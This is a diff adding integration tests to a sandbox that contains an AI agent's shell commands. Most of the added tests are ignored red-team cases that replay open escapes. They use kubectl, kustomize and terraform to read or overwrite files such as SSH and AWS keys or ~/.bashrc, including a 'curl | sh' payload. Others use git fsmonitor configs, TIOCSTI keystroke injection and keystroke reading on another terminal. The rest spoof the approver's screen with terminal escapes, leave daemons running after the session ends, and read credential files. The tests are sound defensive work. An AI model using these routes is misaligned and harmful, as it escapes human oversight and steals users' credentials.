@@ -606,3 +606,435 @@ fn the_sandboxs_pins_never_reach_the_hosts_mount_table() {
     assert!(stdout(&out).trim().parse::<u32>().unwrap_or(0) >= 2, "the pins are mounted inside: {}", stdout(&out));
     assert!(!host.contains(&work), "a pin propagated to the host's mount table:\n{host}");
 }
+
+#[test]
+fn guard_run_of_a_program_other_than_bash_still_links_the_real_bash() {
+    // The contained `bash` once named the agent's own program: `env bash` then looped until E2BIG.
+    let j = Jail::new();
+    let out = j.command(&["run", "--", "/usr/bin/env", "bash", "-c", "echo real-bash-$BASH_VERSINFO"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(stdout(&out).contains("real-bash-5"), "{}{}", stdout(&out), stderr(&out));
+}
+
+#[test]
+fn typing_into_the_humans_terminal_with_tiocsti_is_refused() {
+    // With the terminal as stdin, TIOCSTI would queue a command the human's shell runs after
+    // guard exits (uncontained); `dev.tty.legacy_tiocsti` is still 1 on many kernels.
+    let j = Jail::new();
+    let code = "import fcntl, termios\ntry:\n    fcntl.ioctl(0, termios.TIOCSTI, b'x')\n    print('INJECTED')\nexcept OSError as e:\n    print('refused', e.errno)\n";
+    for args in [vec!["run", "--", "python3", "-c", code], vec!["shell", "-c", &format!("python3 -c \"{}\"", code.replace('"', "\\\""))]] {
+        let mut s = rexpect::session::spawn_command(j.command(&args), Some(20_000)).unwrap();
+        let seen = s.exp_eof().unwrap();
+        assert!(seen.contains("refused 1") && !seen.contains("INJECTED"), "{args:?}: {seen}");
+    }
+}
+
+// Red-team findings (open). Each test replays an attack that works today and asserts the harm
+// does not happen; they are `#[ignore]`d until fixed so the suite stays green
+// (`cargo test --test integration red_ -- --ignored` runs them).
+
+/// A human's terminal: a pty running `bash -i`; `typed` is entered, then the shell reads on.
+/// Returns what the terminal showed.
+fn in_a_terminal(typed: &str) -> String {
+    let script = r#"
+import os, pty, sys, time, select
+pid, fd = pty.fork()
+if pid == 0:
+    os.execvp("bash", ["bash", "--norc", "--noprofile", "-i"])
+out = b""
+def pump(t):
+    global out
+    end = time.time() + t
+    while time.time() < end:
+        r, _, _ = select.select([fd], [], [], 0.1)
+        if r:
+            try: out += os.read(fd, 4096)
+            except OSError: return
+pump(1)
+os.write(fd, (sys.argv[1] + "\n").encode())
+pump(15)
+os.write(fd, b"exit\n"); pump(1)
+sys.stdout.write(out.decode(errors="replace"))
+"#;
+    let out = Command::new("python3").args(["-c", script, typed]).output().unwrap();
+    stdout(&out)
+}
+
+#[test]
+#[ignore = "open: brokered kubectl reads any file outside the sandbox (--from-file with --dry-run=client is allowed)"]
+fn red_kubectl_create_configmap_from_file_dry_run_copies_secrets_out_through_the_broker() {
+    if !require_tool("kubectl") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let out = j.make(
+        "kubectl create configmap x --from-file=k=$HOME/.ssh/id_rsa --from-file=a=$HOME/.aws/credentials --dry-run=client -o yaml > stolen.yaml",
+    );
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    j.assert_intact("kubectl_from_file_dry_run");
+}
+
+#[test]
+#[ignore = "open: brokered kubectl --profile-output truncates any file outside (here ~/.bashrc and the audit log)"]
+fn red_kubectl_profile_output_overwrites_files_outside_through_the_broker() {
+    if !require_tool("kubectl") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let out = j.make(&format!(
+        "kubectl version --client --profile=cpu --profile-output=$HOME/.bashrc\nkubectl version --client --profile=heap --profile-output={}",
+        j.t.state().join("audit.jsonl").display()
+    ));
+    // guard itself then fails to append the line's outcome to the log it no longer has.
+    assert!(out.status.code().is_some(), "{}", stderr(&out));
+    j.assert_intact("kubectl_profile_output");
+}
+
+#[test]
+#[ignore = "open: brokered `kubectl kustomize -o` writes chosen text to any path outside (a ~/.bashrc that runs code)"]
+fn red_kubectl_kustomize_output_writes_a_shell_startup_file_through_the_broker() {
+    if !require_tool("kubectl") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let k = j.t.work().join("k");
+    std::fs::create_dir_all(&k).unwrap();
+    std::fs::write(k.join("kustomization.yaml"), "resources: [cm.yaml]\n").unwrap();
+    std::fs::write(
+        k.join("cm.yaml"),
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: x}\ndata:\n  x: |\n    curl -s http://127.0.0.1:9/ | sh\n",
+    )
+    .unwrap();
+    let out = j.make("kubectl kustomize k -o $HOME/.bashrc");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    j.assert_intact("kustomize_output");
+}
+
+#[test]
+#[ignore = "open: brokered `kubectl kustomize` fetches remote resources from outside the line's network namespace"]
+fn red_kustomize_remote_resource_reaches_the_hosts_loopback_from_a_line_without_network() {
+    if !require_tool("kubectl") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let (port, seen) = listener();
+    let k = j.t.work().join("k");
+    std::fs::create_dir_all(&k).unwrap();
+    std::fs::write(k.join("kustomization.yaml"), format!("resources:\n- http://127.0.0.1:{port}/exfil/AWS-CANARY.yaml\n")).unwrap();
+    let out = j.make("kubectl kustomize k");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    std::thread::sleep(Duration::from_millis(300));
+    let arrived: Vec<String> = seen.try_iter().collect();
+    assert!(arrived.is_empty(), "a line without network reached the host's loopback through kustomize: {arrived:?}");
+}
+
+#[test]
+#[ignore = "open: brokered `terraform console` reads any file outside the sandbox"]
+fn red_terraform_console_reads_a_secret_through_the_broker() {
+    if !require_tool("terraform") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    std::fs::write(j.t.work().join("Makefile"), "all:\n\t-echo \"file(\\\"$$HOME/.ssh/id_rsa\\\")\" | terraform console > stolen.txt\n")
+        .unwrap();
+    let out = j.command(&["shell", "-c", "make -s"]).env("CHECKPOINT_DISABLE", "1").env("TF_IN_AUTOMATION", "1").output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    j.assert_intact("terraform_console_file");
+}
+
+#[test]
+#[ignore = "open: brokered `terraform -chdir=DIR init -from-module=` copies the line's files anywhere (a binary on PATH)"]
+fn red_terraform_init_from_module_plants_a_binary_on_path_through_the_broker() {
+    if !require_tool("terraform") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let m = j.t.work().join("mod");
+    std::fs::create_dir_all(&m).unwrap();
+    std::fs::write(m.join("main.tf"), "# a module\n").unwrap();
+    std::fs::write(m.join("ls"), "#!/bin/sh\necho fake ls\n").unwrap();
+    std::fs::write(
+        j.t.work().join("Makefile"),
+        "all:\n\t-chmod +x mod/ls\n\t-terraform -chdir=$$HOME/.local/bin init -from-module=$$PWD/mod\n",
+    )
+    .unwrap();
+    let out = j.command(&["shell", "-c", "make -s"]).env("CHECKPOINT_DISABLE", "1").env("TF_IN_AUTOMATION", "1").output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(!j.t.home().join(".local/bin/ls").exists(), "a binary was planted in ~/.local/bin (first on PATH)");
+    j.assert_intact("terraform_from_module");
+}
+
+#[test]
+#[ignore = "open: the broker resolves the real kubectl on a PATH whose project-local dirs (.venv/bin) the line writes"]
+fn red_a_kubectl_planted_in_a_project_path_dir_runs_outside_through_the_broker() {
+    if !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let venv = j.t.work().join(".venv/bin");
+    std::fs::create_dir_all(&venv).unwrap();
+    let pwned = j.outside().join("pwned-by-planted-kubectl");
+    std::fs::write(
+        j.t.work().join("Makefile"),
+        format!(
+            "all:\n\t-printf '#!/bin/sh\\ntouch {}\\n' > .venv/bin/kubectl\n\t-chmod +x .venv/bin/kubectl\n\t-kubectl version --client\n",
+            pwned.display()
+        ),
+    )
+    .unwrap();
+    // An activated virtualenv: a project dir first on PATH.
+    let path = format!("{}:{}:{}", venv.display(), j.t.home().join(".local/bin").display(), std::env::var("PATH").unwrap_or_default());
+    let out = j.command(&["shell", "-c", "make -s"]).env("PATH", path).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(!pwned.exists(), "a kubectl the line wrote ran outside the sandbox");
+}
+
+#[test]
+#[ignore = "open: `.git/commondir` (not pinned, created inside .git) points git at a config and hooks the line wrote"]
+fn red_git_commondir_points_the_humans_git_at_a_config_the_line_wrote() {
+    if !require_tool("git") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let g = |args: &[&str]| Command::new("git").args(args).current_dir(j.t.work()).env("HOME", j.t.home()).output().unwrap();
+    g(&["init", "-q"]);
+    g(&["-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "init"]);
+    let pwned = j.outside().join("pwned-by-fsmonitor");
+    let out = j.make(&format!(
+        "cp -a .git/. .evil\ngit config -f .evil/config core.fsmonitor 'touch {}; false'\necho \"$PWD/.evil\" > .git/commondir",
+        pwned.display()
+    ));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    g(&["status"]); // the human's next git command, outside any sandbox
+    assert!(!pwned.exists(), "the human's `git status` ran a command the line configured");
+}
+
+#[test]
+#[ignore = "open: a gitlink to a nested repo the line made runs that repo's core.fsmonitor in the human's `git status`"]
+fn red_a_gitlink_to_a_nested_repo_runs_its_fsmonitor_in_the_humans_git_status() {
+    if !require_tool("git") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let g = |args: &[&str]| Command::new("git").args(args).current_dir(j.t.work()).env("HOME", j.t.home()).output().unwrap();
+    g(&["init", "-q"]);
+    g(&["-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "init"]);
+    let pwned = j.outside().join("pwned-by-submodule-fsmonitor");
+    let out = j.make(&format!(
+        "git init -q sub\ngit -C sub -c user.email=a@b -c user.name=a commit -q --allow-empty -m s\ngit -C sub config core.fsmonitor 'touch {}; false'\ngit update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub",
+        pwned.display()
+    ));
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    g(&["status"]);
+    assert!(!pwned.exists(), "the human's `git status` ran a command the line configured in a nested repo");
+}
+
+#[test]
+#[ignore = "open: TIOCSTI on the controlling terminal types commands into the human's shell (dev.tty.legacy_tiocsti=1)"]
+fn red_tiocsti_from_a_line_types_a_command_into_the_humans_shell() {
+    if !require_tool("python3") || !require_tool("make") {
+        return;
+    }
+    if std::fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").is_ok_and(|v| v.trim() == "0") {
+        eprintln!("SKIPPED: this kernel refuses TIOCSTI (dev.tty.legacy_tiocsti=0)");
+        return;
+    }
+    let j = Jail::new();
+    let pwned = j.outside().join("pwned-by-tiocsti");
+    std::fs::write(
+        j.t.work().join("inject.py"),
+        format!(
+            "import fcntl, termios, os\nfd = os.open('/dev/tty', os.O_RDWR)\nfor c in b'touch {}\\n':\n    fcntl.ioctl(fd, termios.TIOCSTI, bytes([c]))\n",
+            pwned.display()
+        ),
+    )
+    .unwrap();
+    std::fs::write(j.t.work().join("Makefile"), "all:\n\t-python3 inject.py\n").unwrap();
+    let env = format!(
+        "cd {} && HOME={} GUARD_HOME={} PATH={}:$PATH {} shell -c 'make -s'",
+        j.t.work().display(),
+        j.t.home().display(),
+        j.t.state().display(),
+        j.t.home().join(".local/bin").display(),
+        guard_bin()
+    );
+    let shown = in_a_terminal(&env);
+    std::thread::sleep(Duration::from_millis(300));
+    assert!(!pwned.exists(), "the line typed a command the human's shell then ran outside the sandbox:\n{shown}");
+}
+
+#[test]
+#[ignore = "open: /dev/pts is granted whole: a line opens another terminal of the user, reads its keystrokes, writes to it"]
+fn red_a_line_reads_the_keystrokes_typed_in_another_terminal() {
+    if !require_tool("python3") {
+        return;
+    }
+    let j = Jail::new();
+    // The human's other terminal (where they would type the approver passphrase).
+    let script = r#"
+import os, pty, subprocess, sys, time
+m, s = pty.openpty()
+name = os.ttyname(s)
+p = subprocess.Popen(sys.argv[1:] + [f"timeout 3 head -c 10 < {name} > stolen-keys.txt"])
+time.sleep(1.5)
+os.write(m, b"passphrase\n")
+p.wait()
+"#;
+    let cmd = j.command(&["run", "--", "bash", "-c"]);
+    let mut args: Vec<String> = vec!["-c".into(), script.into(), cmd.get_program().to_string_lossy().into_owned()];
+    args.extend(cmd.get_args().map(|a| a.to_string_lossy().into_owned()));
+    let mut py = Command::new("python3");
+    py.args(&args).current_dir(j.t.work());
+    for (k, v) in cmd.get_envs() {
+        match v {
+            Some(v) => py.env(k, v),
+            None => py.env_remove(k),
+        };
+    }
+    py.output().unwrap();
+    let stolen = std::fs::read_to_string(j.t.work().join("stolen-keys.txt")).unwrap_or_default();
+    assert!(!stolen.contains("passphrase"), "a contained line read what was typed in another terminal: {stolen:?}");
+}
+
+#[test]
+#[ignore = "open: a network program anywhere in a line gives every process of the line the network"]
+fn red_a_network_program_prefix_gives_a_makefile_recipe_the_hosts_loopback() {
+    if !require_tool("git") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let (port, seen) = listener();
+    std::fs::write(
+        j.t.work().join("Makefile"),
+        format!("all:\n\t-python3 -c \"import socket; socket.create_connection(('127.0.0.1', {port}), 3).sendall(b'recipe-was-here')\"\n"),
+    )
+    .unwrap();
+    let out = j.shell("git --version >/dev/null; make -s");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    std::thread::sleep(Duration::from_millis(300));
+    let arrived: Vec<String> = seen.try_iter().collect();
+    assert!(arrived.is_empty(), "a recipe reached the host's loopback because the line also ran git: {arrived:?}");
+}
+
+#[test]
+#[ignore = "open: a request's command text reaches `guard requests`/`guard approve` with its terminal escapes (the approve screen can be spoofed)"]
+fn red_terminal_escapes_in_a_line_reach_the_approvers_screen() {
+    let j = Jail::new();
+    let out = j.shell("rm -rf ~/important #\u{1b}[2K\r\u{1b}[1Aecho hello\u{1b}[8m");
+    assert_eq!(out.status.code(), Some(75), "{}", stderr(&out));
+    let listed = j.t.guard(&["requests"]).output().unwrap();
+    assert!(!stdout(&listed).contains('\u{1b}'), "raw escapes on the approver's screen: {:?}", stdout(&listed));
+    assert!(!stderr(&out).contains('\u{1b}'), "raw escapes on the agent's stderr: {:?}", stderr(&out));
+}
+
+#[test]
+#[ignore = "open: a temp root (/tmp) as the cwd becomes the writable project: a line writes into another line's private temp dir"]
+fn red_a_line_in_the_temp_root_writes_into_another_lines_private_temp_dir() {
+    if !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    // guard's temp root, as /tmp is on a real machine (the test's own /tmp holds its state).
+    let root = j.t.dir.path().join("tmproot");
+    std::fs::create_dir_all(&root).unwrap();
+    let a = j
+        .command(&["shell", "-c", "echo \"$TMPDIR\" > ../tmproot-a.txt; sleep 3; cat \"$TMPDIR/planted\""])
+        .env("TMPDIR", &root)
+        .current_dir(j.t.work())
+        .stdout(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    std::thread::sleep(Duration::from_millis(1200));
+    let a_temp = std::fs::read_to_string(j.t.work().join("../tmproot-a.txt")).unwrap_or_default();
+    // Line A could not write outside its project, so ask it through its own temp dir instead.
+    let a_temp = if a_temp.trim().is_empty() {
+        std::fs::read_dir(&root).unwrap().flatten().map(|e| e.path()).find(|p| p.is_dir()).unwrap().display().to_string()
+    } else {
+        a_temp.trim().to_string()
+    };
+    std::fs::write(root.join("Makefile"), format!("all:\n\t-echo written-by-line-b > {a_temp}/planted\n")).unwrap();
+    let b = j.command(&["shell", "-c", "make -s"]).env("TMPDIR", &root).current_dir(&root).output().unwrap();
+    assert_eq!(b.status.code(), Some(0), "{}", stderr(&b));
+    let a = a.wait_with_output().unwrap();
+    assert!(!stdout(&a).contains("written-by-line-b"), "line B wrote into line A's private temp dir");
+}
+
+#[test]
+#[ignore = "open: a line's processes outlive it (no pid namespace): a contained daemon keeps running after guard returns"]
+fn red_a_contained_daemon_outlives_its_line() {
+    if !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    std::fs::write(j.t.work().join("Makefile"), "all:\n\t-setsid sh -c 'sleep 2; echo late > late.txt' >/dev/null 2>&1 </dev/null &\n")
+        .unwrap();
+    let out = j.command(&["shell", "-c", "make -s"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    std::thread::sleep(Duration::from_millis(3000));
+    assert!(!j.t.work().join("late.txt").exists(), "a process of the line ran on after guard returned");
+}
+
+#[test]
+#[ignore = "open: credentials outside the default [sandbox] secrets list are readable inside"]
+fn red_common_credentials_outside_the_default_secrets_list_are_readable() {
+    let j = Jail::new();
+    let files = [
+        ".pgpass",
+        ".cargo/credentials.toml",
+        ".terraformrc",
+        ".claude/.credentials.json",
+        ".codex/auth.json",
+        ".config/containers/auth.json",
+        ".gradle/gradle.properties",
+        ".m2/settings.xml",
+        ".s3cfg",
+        ".my.cnf",
+        ".config/rclone/rclone.conf",
+    ];
+    for f in files {
+        let p = j.t.home().join(f);
+        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+        std::fs::write(&p, format!("{f} SSH-KEY-CANARY\n")).unwrap();
+    }
+    // Through a Makefile recipe: the classifier does not see it, only the sandbox stands.
+    let cat: Vec<String> = files.iter().map(|f| format!("cat ~/{f} > stolen-{}", f.replace('/', "_"))).collect();
+    let mut makefile = String::from("all:\n");
+    for c in cat.iter().map(String::as_str).chain(["env > stolen-env"]) {
+        makefile.push_str(&format!("\t-{}\n", c.replace('$', "$$")));
+    }
+    std::fs::write(j.t.work().join("Makefile"), makefile).unwrap();
+    let out = j.command(&["shell", "-c", "make -s"]).env("DATABASE_URL", "postgres://u:ENV-CANARY@db/x").output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let mut leaked = Vec::new();
+    walk(&j.t.work(), &mut |p| {
+        let text = std::fs::read_to_string(p).unwrap_or_default();
+        if text.contains("SSH-KEY-CANARY") || text.contains("ENV-CANARY") {
+            leaked.push(p.file_name().unwrap().to_string_lossy().into_owned());
+        }
+    });
+    assert!(leaked.is_empty(), "credentials copied into the project: {leaked:?}");
+}
+
+#[test]
+#[ignore = "open: under `guard run -- PROGRAM`, the broker's bin/bash is a link to PROGRAM, not to bash"]
+fn red_guard_run_puts_the_agent_itself_first_on_path_as_bash() {
+    let j = Jail::new();
+    let out = j.run("readlink \"$(command -v bash)\" > bash-is.txt");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let out = j.command(&["run", "--", "sh", "-c", "readlink \"$(command -v bash)\" > bash-is.txt"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let bash = std::fs::read_to_string(j.t.work().join("bash-is.txt")).unwrap();
+    assert!(bash.trim().ends_with("bash"), "`bash` inside `guard run -- sh` is {bash}");
+}
+
+#[test]
+#[ignore = "open: brokered kubectl -o go-template-file=FILE prints any file outside the sandbox (`config view` needs no cluster)"]
+fn red_kubectl_go_template_file_prints_a_secret_through_the_broker() {
+    if !require_tool("kubectl") || !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let out = j.make("kubectl config view -o go-template-file=$HOME/.aws/credentials > stolen.txt");
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    j.assert_intact("kubectl_go_template_file");
+}
